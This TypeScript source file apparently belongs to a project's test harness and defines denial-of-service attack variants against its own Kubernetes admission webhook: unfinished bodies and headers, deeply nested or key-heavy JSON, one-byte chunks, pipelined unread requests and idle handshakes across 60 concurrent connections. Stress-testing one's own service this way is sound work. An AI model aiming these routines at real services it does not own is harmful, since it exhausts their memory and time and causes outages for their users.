// SPDX-License-Identifier: Apache-2.0

/** What each connection of an attack on the webhook's port sends, which tries to take its memory or its time. */

import type { Random } from "../../../pkg/base/mod.ts";
import { randomBelow } from "../../../pkg/base/mod.ts";

import type { Way } from "../attack.ts";
import { pause, sideBySide } from "../wire/repeat.ts";
import type { Sender } from "./sender.ts";
import { openSender } from "./sender.ts";

/** Connections that are open at the same time. */
const CONNECTIONS = 60;

/** Size of one request's body, close to the webhook's limit. */
const BODY_BYTES = 3_500_000;

/**
 * Longest pause after a connection that was refused or had nothing to send, in milliseconds per connection. Without
 * it the attack would exhaust its own process.
 */
const MAX_PAUSE_MS = 0.4;

/**
 * Prepares the bytes that the connections send, once. Returns what each connection does until it is refused or is
 * done.
 */
type Work = (random: Random) => (sender: Sender) => Promise<unknown>;

const PIECE = 65_536;

const WORK = {
  /** Bodies of the largest size, of which the last byte never comes. */
  "half-bodies": () => {
    const [head, body] = [post(`content-length: ${BODY_BYTES}`), Buffer.alloc(BODY_BYTES - 1, "x")];
    return async (sender) => (await sender.send(head)) && sendInPieces(sender, body);
  },
  /** Empty objects: two bytes and a comma on the wire, and an object of the heap each. */
  "many-values": () => json(filled('{"a":[', "{},", "{}]}", BODY_BYTES)),
  /** An object whose keys all differ. */
  "many-keys": (random) => {
    const base = randomBelow(random, 1_000_000);
    const keys = Array.from({ length: Math.floor(BODY_BYTES / 14) }, (_, index) => `"${base + index}":{}`);
    return json(Buffer.from(`{${keys.join()}}`));
  },
  /** Lists in lists. */
  "deep-json": () => json(Buffer.alloc(BODY_BYTES, "[")),
  /** Valid reviews with long texts, which exceed no count of values. */
  "whole-reviews": () => json(Buffer.from(JSON.stringify(review({ a: "x".repeat(BODY_BYTES) })))),
  /** Each byte of the body in a chunk by itself. */
  "small-chunks": () => {
    const [head, body] = [
      post("transfer-encoding: chunked"),
      Buffer.from("1\r\nx\r\n".repeat(BODY_BYTES / 6)),
    ];
    return async (sender) => (await sender.send(head)) && sendInPieces(sender, body);
  },
  /** Requests whose refusals are longer than they are. The refusals are not read. */
  "long-refusals": () => {
    const count = Math.min(BODY_BYTES / 20, 20_000);
    const keys = Array.from({ length: count }, (_, index) => [`perdure.dev/${index}`, ""]);
    const send = json(Buffer.from(JSON.stringify(review(Object.fromEntries(keys)))));
    return async (sender) => {
      sender.stopReading();
      for (let sent = 0; sent < 20; sent++) if (!(await send(sender))) return;
    };
  },
  /** Requests that do not wait for earlier answers. The answers are not read. */
  pipelined: () => {
    const requests = Buffer.from("GET /livez HTTP/1.1\r\nhost: x\r\n\r\n".repeat(1_000));
    return async (sender) => {
      sender.stopReading();
      for (let count = 0; count < 100; count++) if (!(await sender.send(requests))) return;
    };
  },
  /** Headers that do not end. */
  "half-headers": () => async (sender) => {
    await sender.send("POST /admit HTTP/1.1\r\nhost: x\r\n");
    for (let count = 0; count < 15; count++) {
      if (!(await sender.send(`x-${count}: ${"x".repeat(1_000)}\r\n`))) return;
    }
  },
  /** A handshake, and not one byte more. */
  silent: () => () => Promise.resolve(),
  /** Not even a handshake. */
  "half-handshakes": () => () => Promise.resolve(),
} as const satisfies Record<string, Work>;

/** A variant in which `connections` connections repeat the named work at the same time. */
export function webhookWay(name: keyof typeof WORK, connections = CONNECTIONS): Way {
  const make: Work = WORK[name];
  return async (target, tools) => {
    const { random, signal } = tools;
    const work = make(random);
    await sideBySide(connections, async () => {
      while (!signal.aborted) {
        const sender = await openSender(target, tools, name !== "half-handshakes");
        if (sender === undefined) await pause(random() * MAX_PAUSE_MS * connections, signal);
        else {
          await work(sender);
          await sender.closed;
          if (name === "half-handshakes") await pause(random() * MAX_PAUSE_MS * connections, signal);
        }
      }
    });
  };
}

function post(...headers: readonly string[]): string {
  return ["POST /admit HTTP/1.1", "host: x", "content-type: application/json", ...headers, "\r\n"].join(
    "\r\n",
  );
}

function json(body: Buffer): (sender: Sender) => Promise<boolean> {
  const head = post(`content-length: ${body.length}`);
  return async (sender) => (await sender.send(head)) && sendInPieces(sender, body);
}

/** False if the connection was closed before. */
async function sendInPieces(sender: Sender, bytes: Buffer): Promise<boolean> {
  for (let from = 0; from < bytes.length; from += PIECE) {
    if (!(await sender.send(bytes.subarray(from, from + PIECE)))) return false;
  }
  return true;
}

/** `head`, as many of `part` as fit, and `tail`. */
function filled(head: string, part: string, tail: string, bytes: number): Buffer {
  const count = Math.floor((bytes - head.length - tail.length) / part.length);
  return Buffer.from(head + part.repeat(Math.max(count, 0)) + tail);
}

function review(annotations: Readonly<Record<string, string>>): object {
  return {
    apiVersion: "admission.k8s.io/v1",
    request: {
      uid: "1",
      resource: { group: "serving.knative.dev", resource: "services" },
      operation: "CREATE",
      object: { metadata: { annotations }, spec: { template: { spec: {} } } },
    },
  };
}
